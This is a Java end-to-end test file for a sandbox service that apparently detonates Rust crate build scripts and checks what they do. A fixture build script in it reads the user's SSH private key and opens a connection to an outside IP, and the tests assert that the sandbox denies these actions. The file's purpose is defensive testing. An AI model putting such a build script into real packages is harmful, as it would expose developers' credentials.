package lazaret.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import lazaret.e2e.harness.CliProcess;
import lazaret.e2e.harness.Crates;
import lazaret.e2e.harness.GateScene;
import lazaret.e2e.harness.ProgramResult;
import lazaret.e2e.harness.RunningProgram;
import lazaret.e2e.harness.SandboxScene;
import lazaret.e2e.harness.WorkFolder;
import lazaret.testkit.CrateBuilder;
import lazaret.testkit.FixtureRegistry;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/// Detonations that a gate orders from the sandbox service, over a real socket.
class SandboxServiceE2E {
  private static final String HOSTILE =
      """
      fn main() {
          let out = std::env::var("OUT_DIR").unwrap();
          std::fs::write(format!("{out}/loot.bin"), "").unwrap();
          println!("cargo:rustc-link-lib=evil");
          let _ = std::net::TcpStream::connect("203.0.113.7:443");
          let _ = std::fs::read(format!("{}/.ssh/id_ed25519", std::env::var("HOME").unwrap()));
      }
      """;

  private static final String SLOW =
      """
      fn main() {
          std::thread::sleep(std::time::Duration::from_secs(300));
      }
      """;

  /// A trace in the text, without programs: those that run for milliseconds may be missed.
  private static final Pattern TRACE = Pattern.compile("\\b(denied|said|read|wrote) .*");

  private final Path socket = WorkFolder.folder("service").resolve("s");
  private SandboxScene scene;
  private Process service;

  private static FixtureRegistry registry() {
    Instant yesterday = Instant.now().minus(Duration.ofDays(1));
    return Crates.aged(CrateBuilder.crate("alpha", "1.0.0"))
        .publish(
            CrateBuilder.crate("beta", "1.0.0").dependency("alpha", "^1").buildScript(HOSTILE),
            line -> line.pubtime(yesterday))
        .publish(
            CrateBuilder.crate("slow", "1.0.0").buildScript(SLOW), line -> line.pubtime(yesterday))
        .publish(
            CrateBuilder.crate("gamma", "1.0.0").dependency("slow", "^1"),
            line -> line.pubtime(yesterday));
  }

  @BeforeEach
  void start() throws IOException {
    SandboxScene.sandbox();
    SandboxScene.toolchain();
    scene =
        new SandboxScene(
            GateScene.of(
                registry(), settings -> settings.set("detonation.socket", socket.toString())),
            WorkFolder.folder("cache"));
    service =
        CliProcess.beside(scene.gate())
            .start(
                "sandbox",
                "serve",
                "--user",
                Files.getOwner(Path.of("/proc/self")).getName(),
                "--socket",
                socket.toString(),
                "--cache",
                WorkFolder.folder("service-cache").toString());
    GateScene.await("the service listens", () -> Files.exists(socket));
  }

  @AfterEach
  void close() {
    if (service != null) {
      service.destroy();
    }
    if (scene != null) {
      scene.close();
    }
  }

  private static Set<String> traces(ProgramResult result) {
    return TRACE
        .matcher(result.out())
        .results()
        .map(found -> found.group().strip())
        .collect(Collectors.toCollection(TreeSet::new));
  }

  @Test
  @Tag("ci")
  void evidenceIsThatOfABuildInTheOwnProcess() {
    ProgramResult here = scene.builds(WorkFolder.folder("work"), "detonate", "beta@1.0.0").exits(7);

    ProgramResult there = scene.cli("detonate", "beta@1.0.0", "--at-gate").exits(7);

    assertThat(traces(there))
        .isEqualTo(traces(here))
        .contains("denied connect 203.0.113.7:443", "said rustc-link-lib=evil")
        .anyMatch(trace -> trace.startsWith("denied decoy-opened"));
    assertThat(there.out()).contains("built alone   built; by").contains("ran /opt/rust/bin/cargo");
    assertThat(scene.cli("log").out().split("evidence-filed", -1)).hasSize(3);
  }

  @Test
  @Tag("all")
  void refusalsNameTheCause() {
    scene.cli("detonate", "beta@9.9.9", "--at-gate").exits(5);
    ProgramResult withheld = scene.cli("detonate", "gamma@1.0.0", "--at-gate").exits(1);
    assertThat(withheld.err()).contains("cannot resolve its dependencies").contains("slow");
    service.destroy();
    GateScene.await("the service stops", () -> !service.isAlive());
    ProgramResult alone = scene.cli("detonate", "beta@1.0.0", "--at-gate").exits(3);
    assertThat(alone.err()).contains("cannot build in the service at");
  }

  @Test
  @Tag("all")
  void buildEndsWithTheGateThatOrderedIt() throws IOException {
    Process waiting = CliProcess.beside(scene.gate()).start("detonate", "slow@1.0.0", "--at-gate");
    try {
      GateScene.await("the build runs", () -> !RunningProgram.builds("slow").isEmpty());

      scene.gate().kill();

      GateScene.await("the build ends", () -> RunningProgram.builds("slow").isEmpty());
      assertThat(service.isAlive()).isTrue();
    } finally {
      waiting.destroy();
    }
  }
}
